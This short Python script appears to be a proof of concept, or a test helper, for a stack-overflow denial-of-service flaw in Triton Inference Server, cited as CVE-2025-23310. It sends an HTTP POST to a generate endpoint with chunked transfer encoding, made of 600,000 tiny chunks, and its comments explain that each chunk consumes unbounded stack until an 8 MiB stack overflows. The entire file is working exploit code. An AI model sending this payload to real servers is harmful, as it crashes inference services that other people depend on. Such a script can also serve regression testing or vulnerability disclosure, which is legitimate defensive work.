"""A body in so many chunks that they end a Triton 2.51 with the usual stacks (CVE-2025-23310)."""

from __future__ import annotations

import socket

HEAD = b"POST /v2/models/validate/generate HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
CHUNKS = 600_000
"""Each takes 16 bytes of a stack that Triton does not bound; these would overflow one of 8 MiB."""


def answer_to_small_chunks(connection: socket.socket) -> bytes:
    """The beginning of the answer."""
    connection.sendall(HEAD + b"1\r\nx\r\n" * CHUNKS + b"0\r\n\r\n")
    return connection.recv(4096)
